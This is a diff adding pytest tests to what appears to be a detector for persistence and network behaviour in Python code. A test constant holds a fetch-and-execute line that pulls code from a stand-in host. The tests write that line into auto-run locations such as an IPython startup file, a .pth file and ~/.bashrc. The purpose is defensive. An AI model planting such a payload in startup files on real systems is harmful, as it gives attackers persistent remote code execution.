@@ -71,3 +71,31 @@ def test_to_delete_a_home_or_everything_is_a_concern(place: str) -> None:
 )
 def test_work_files_and_reading_are_none(text: str) -> None:
     assert found(text) == []
+
+
+LEFT_CODE = 'import urllib.request as u; exec(u.urlopen("http://192.0.2.1/s").read())'
+
+
+@pytest.mark.parametrize(
+    ("path", "language"),
+    [
+        ("~/.ipython/profile_default/startup/00.py", "python"),
+        ("/site-packages/x.pth", "python"),
+        ("~/.bashrc", "shell"),
+    ],
+)
+def test_what_is_left_to_run_on_its_own_is_read(path: str, language: str) -> None:
+    text = f"from pathlib import Path\n\nPath({path!r}).write_text({LEFT_CODE!r})"
+    (inner,) = [each for each in python_flows([SourceText("a.py", text, "python")]) if isinstance(each, SourceText)]
+    assert (inner.text, inner.language, inner.first_line) == (LEFT_CODE, language, 3)
+
+
+def test_a_file_that_is_sent_is_no_host() -> None:
+    text = 'import requests\nrequests.post(url, files={"file": ("layout.png", data)})'
+    found = [each for each in python_flows([SourceText("a.py", text, "python")]) if isinstance(each, Ability)]
+    assert [(each.kind, each.target) for each in found] == [(AbilityKind.SENDS, "")]
+
+
+def test_what_is_written_elsewhere_is_not() -> None:
+    text = f"from pathlib import Path\n\nPath('docs/setup.sh').write_text({LEFT_CODE!r})"
+    assert [each for each in python_flows([SourceText("a.py", text, "python")]) if isinstance(each, SourceText)] == []
